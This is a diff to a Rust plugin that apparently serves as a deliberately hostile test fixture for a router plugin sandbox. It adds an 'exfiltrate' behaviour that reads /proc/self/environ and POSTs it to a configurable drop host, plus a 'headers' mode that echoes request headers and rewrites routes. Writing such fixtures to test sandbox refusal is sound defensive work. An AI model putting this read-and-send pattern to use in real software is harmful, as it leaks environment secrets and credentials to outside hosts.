@@ -3,8 +3,8 @@
 //! `--behaviour` says (or `--at start` does it straight away).
 
 use vpcrouter_plugin_sdk::{
-    ConfigSource, Event, HttpRequest, HttpResponse, OptionSpec, Options, PluginInfo, Route,
-    RouteSpec, export_config_source, files, outbound,
+    ConfigSource, Event, HttpRequest, HttpResponse, OptionKind, OptionSpec, Options, PluginInfo,
+    Route, RouteSpec, export_config_source, files, outbound,
 };
 
 struct Hostile {
@@ -13,7 +13,13 @@ struct Hostile {
     target: String,
     /// Misbehave on `started` instead of waiting for a poke.
     at_start: bool,
+    /// The file `exfiltrate` reads: the `loot` option as granted, else its
+    /// default.
+    loot: String,
 }
+
+/// Defaults a hostile author would like to be granted.
+const LOOT: &str = "/proc/self/environ";
 
 fn good_spec() -> RouteSpec {
     vec![Route {
@@ -48,6 +54,26 @@ impl Hostile {
                     .unwrap_or_default();
                 Err(format!("host said: {via_host}; wasi said: {via_wasi}"))
             }
+            // Read what its own defaults point at and post it out: the
+            // defaults grant nothing, so both must be refused.
+            "exfiltrate" => {
+                let loot = files::read_file(&self.loot);
+                let request = outbound::OutboundRequest {
+                    method: "POST".into(),
+                    path: "/loot".into(),
+                    headers: vec![],
+                    body: loot.clone().unwrap_or_default(),
+                    timeout_ms: 500,
+                };
+                let sent = outbound::send(&request).map(|r| r.status);
+                Err(format!(
+                    "read: {}; sent: {sent:?}",
+                    match loot {
+                        Ok(bytes) => String::from_utf8_lossy(&bytes).into_owned(),
+                        Err(e) => e,
+                    }
+                ))
+            }
             "connect" => {
                 let request = outbound::OutboundRequest {
                     method: "GET".into(),
@@ -77,12 +103,17 @@ impl ConfigSource for Hostile {
             options: vec![
                 OptionSpec::text(
                     "behaviour",
-                    "loop | membomb | trap | invalid | steal | connect",
+                    "loop | membomb | trap | invalid | steal | connect | exfiltrate | headers",
                 )
                 .required(),
                 OptionSpec::text("target", "HOST:PORT that `connect` tries")
                     .default_value("127.0.0.1:9"),
                 OptionSpec::text("at", "poke | start | init").default_value("poke"),
+                OptionSpec::file("loot", "File `exfiltrate` reads").default_value(LOOT),
+                OptionSpec::of_kind("drop_host", "Where loot goes", OptionKind::EndpointHost)
+                    .default_value("127.0.0.1"),
+                OptionSpec::of_kind("drop_port", "Where loot goes", OptionKind::EndpointPort)
+                    .default_value("9"),
             ],
             http_paths: vec!["/poke".into()],
         }
@@ -100,6 +131,7 @@ impl ConfigSource for Hostile {
             behaviour,
             target: options.require("target")?.to_string(),
             at_start,
+            loot: options.get("loot").unwrap_or(LOOT).to_string(),
         })
     }
 
@@ -111,7 +143,21 @@ impl ConfigSource for Hostile {
         }
     }
 
-    fn handle_http(&mut self, _request: HttpRequest) -> (HttpResponse, Option<RouteSpec>) {
+    fn handle_http(&mut self, request: HttpRequest) -> (HttpResponse, Option<RouteSpec>) {
+        // Whatever the method: show what reached the plugin, and change
+        // the spec (a GET should not, but a plugin may).
+        if self.behaviour == "headers" {
+            let seen: Vec<String> = request
+                .headers
+                .iter()
+                .map(|(name, value)| format!("{name}: {value}"))
+                .collect();
+            let spec = vec![Route {
+                cidr: "10.66.0.0/16".into(),
+                hosts: vec!["10.33.20.143".into()],
+            }];
+            return (HttpResponse::text(200, &seen.join("\n")), Some(spec));
+        }
         match self.misbehave() {
             Ok(spec) => (HttpResponse::text(200, "poked"), spec),
             Err(e) => (HttpResponse::text(500, &e), None),
